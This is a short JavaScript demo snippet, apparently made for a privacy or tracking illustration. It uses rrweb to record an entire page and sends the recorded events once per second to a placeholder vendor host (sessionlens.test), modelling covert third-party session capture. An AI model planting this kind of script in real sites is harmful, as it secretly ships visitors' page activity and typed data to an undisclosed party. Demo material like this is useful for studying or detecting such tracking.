// Demo vendor glue (hand-written; the recording itself is the real rrweb from npm): a session-replay
// vendor nobody lists records the whole page and uploads it to its own host every second.
(function () {
  var buffer = [];
  rrweb.record({ emit: function (e) { buffer.push(e); } });
  setInterval(function () {
    if (!buffer.length) return;
    var batch = buffer;
    buffer = [];
    fetch('https://ingest.sessionlens.test/v2/sessions', { method: 'POST', body: JSON.stringify({ site: location.hostname, events: batch }) });
  }, 1000);
})();
